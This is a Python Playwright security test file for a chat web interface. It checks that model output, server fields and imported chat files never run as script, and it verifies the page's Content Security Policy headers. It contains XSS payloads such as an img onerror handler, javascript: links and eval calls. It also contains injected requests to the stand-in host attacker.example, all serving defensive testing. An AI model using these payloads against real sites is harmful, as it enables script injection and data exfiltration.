"""No text from a model, a server or a file runs as code on the page."""

from __future__ import annotations

import json
import re
from base64 import b64encode
from hashlib import sha256
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.web.chat_driver import ChatDriver
from tests.web.fake import FakeServer
from tests.web.payloads import PAYLOADS

ALLOWED = {
    *("P", "BR", "STRONG", "EM", "DEL", "CODE", "PRE", "SPAN", "H2", "H3", "H4", "H5", "H6", "UL", "OL", "LI"),
    *("BLOCKQUOTE", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "HR", "A", "DIV", "BUTTON"),
}


def count_runs(context: BrowserContext) -> None:
    """Define `pwned()` in every page of a context; it counts its calls in `window.runs`."""
    context.add_init_script("window.runs = 0; window.pwned = () => { window.runs += 1; };")


def assert_harmless(page: Page) -> None:
    """Fail if `pwned()` ran, or if there are unknown elements or attributes that could run code."""
    assert page.evaluate("window.runs") == 0
    found = page.evaluate(
        """() => [...document.querySelectorAll('.body *')].map((one) =>
            [one.tagName, [...one.attributes].map((attribute) => [attribute.name, attribute.value])])"""
    )
    for tag, attributes in found:
        assert tag in ALLOWED, tag
        for name, value in attributes:
            assert not name.startswith("on") and name not in ("style", "src", "srcdoc"), (tag, name)
            assert name != "href" or value.startswith(("https://", "http://", "mailto:")), value


def test_hostile_answers_run_no_code(context: BrowserContext, fake: FakeServer) -> None:
    assert len(PAYLOADS) == 40
    count_runs(context)
    chat = ChatDriver(context, fake.url)
    chat.page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    for payload in PAYLOADS:
        chat.type(payload)
        answer = fake.answer()
        for at in range(0, len(payload), 9):  # incomplete elements are shown, too
            answer.say(payload[at : at + 9])
        answer.end()
        chat.wait_until_idle()
    assert_harmless(chat.page)
    for link in chat.page.locator(".body a").all():
        assert link.get_attribute("rel") == "noopener noreferrer"
    for view in chat.page.get_by_role("button", name="Tokens", exact=True).all():
        view.click()
    chat.page.locator(".tokens .token").first.click()
    assert chat.page.evaluate("window.runs") == 0
    chat.page.reload()
    chat.wait_until_ready()
    assert_harmless(chat.page)
    assert chat.page.url == f"{fake.url}/"
    chat.watch.assert_clean()


def test_hostile_fields_and_files_run_no_code(context: BrowserContext, fake: FakeServer, tmp_path: Path) -> None:
    count_runs(context)
    evil = "<img src=x onerror=pwned()>"
    fake.info |= {"model": evil, "dtype": evil, "calculator": True}
    chat = ChatDriver(context, fake.url)
    page = chat.page
    page.click("#model")
    page.keyboard.press("Escape")
    chat.type(evil)
    answer = fake.answer()
    parts = [{"type": "python", "text": evil}, {"type": "python_output", "text": evil}, {"type": "text", "text": evil}]
    answer.choice({"content": evil, "parts": parts}, token_ids=[1], mask=[1])
    answer.finish(version=evil)
    answer.end(None)
    chat.wait_until_idle()
    fake.refusals = [(400, {"message": evil})]
    chat.press("Regenerate")
    expect(page.locator(".toast.bad")).to_contain_text(evil)
    with page.expect_download() as download:
        chat.press("Export all")
    chats = json.loads(Path(download.value.path()).read_text())
    for message in chats["chats"][0]["messages"]:
        message |= {
            "finish": evil,
            "error": evil,
            "seed": evil,
            "stats": {"first": None, "speed": None, "prompt": evil},
        }
    path = tmp_path / "chats.json"
    path.write_text(json.dumps(chats))
    page.set_input_files("#file", path)
    expect(page.locator(".chat-name")).to_have_count(2)
    expect(page.locator(".message.assistant")).to_contain_text(evil)
    assert page.evaluate("window.runs") == 0
    assert page.locator("img, script[src], iframe").count() == 0


# Each attack calls `pwned()` or sends a request to another server.
ATTACKS = {
    "an inline script": "add('script', {}, 'pwned()')",
    "a script from a data URL": "add('script', {src: 'data:,pwned()'})",
    "an inline handler": "add('b', {onclick: 'pwned()'}).click()",
    "eval": "window.eval('pwned()')",
    "HTML": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=pwned()>'); await later()",
    "HTML without a handler": "document.body.innerHTML = '<b>x</b>'; pwned()",
    "another trusted types policy": "trustedTypes.createPolicy('other', {}); pwned()",
    "a javascript: address": "add('a', {href: 'javascript:pwned()'}).click(); await later()",
    "a request to another server": "await fetch('https://attacker.example/').catch(() => 0)",
    "an image from another server": "add('img', {src: 'https://attacker.example/x.png'}); await later()",
    "a frame": "add('iframe', {src: 'https://attacker.example/'}); await later()",
    "a form": "add('form', {action: 'https://attacker.example/'}).submit(); await later()",
    "an inline style": "add('b', {style: 'background: url(https://attacker.example/x)'}, 'x'); await later()",
    "another base": "add('base', {href: 'https://attacker.example/'}); await fetch('x').catch(() => 0)",
}
HELPERS = """
    const later = () => new Promise((done) => setTimeout(done, 50));
    const add = (name, attributes, text = "") => {
      const node = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) node.setAttribute(key, value);
      node.append(text);
      document.body.append(node);
      return node;
    };
"""


def test_policy_blocks_code_without_sanitizing(context: BrowserContext, server_url: str) -> None:
    """The test inserts the code into the real server's page, as if DOMPurify had not removed it."""
    count_runs(context)
    chat = ChatDriver(context, server_url)
    for name, attack in ATTACKS.items():
        # In a separate task, because code run directly by Playwright may use eval.
        code = f"{HELPERS} try {{ {attack} }} catch {{}} done();"
        chat.page.evaluate(f"() => new Promise((done) => setTimeout(async () => {{ {code} }}))")
        assert chat.page.evaluate("window.runs") == 0, name
        assert all("attacker" not in url or "csp" in why for url, why in chat.failed), (name, chat.failed)
        assert chat.page.url == f"{server_url}/", name


def test_policy_contains_the_digest_of_the_renderer(server_url: str, context: BrowserContext) -> None:
    page = context.new_page()
    response = page.goto(server_url)
    assert response is not None
    (integrity,) = re.findall(r'<script src="formulas.js" integrity="([^"]+)">', response.text())
    assert f" '{integrity}';" in response.headers["content-security-policy"]
    script = page.request.get(f"{server_url}/formulas.js")
    assert integrity == f"sha256-{b64encode(sha256(script.body()).digest()).decode()}"
    assert script.headers["content-type"].startswith("text/javascript")
    assert (
        page.request.get(f"{server_url}/formulas.js", headers={"if-none-match": script.headers["etag"]}).status == 304
    )


def test_headers_of_both_pages(server_url: str, context: BrowserContext) -> None:
    page = context.new_page()
    for path in ("/", "/dashboard"):
        response = page.goto(server_url + path)
        assert response is not None
        policy = response.headers["content-security-policy"]
        parts = dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
        assert parts["default-src"] == parts["base-uri"] == parts["form-action"] == parts["frame-ancestors"] == "'none'"
        assert parts["connect-src"] == "'self'" and parts["img-src"] == "data:"
        assert parts["script-src"].startswith("'sha256-") and "unsafe" not in policy
        assert "'self'" not in parts["script-src"], "other files of this server are not scripts of the page"
        assert parts["style-src"].startswith("'self' 'sha256-")
        assert parts["require-trusted-types-for"] == "'script'" and parts["trusted-types"] == "dompurify"
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"
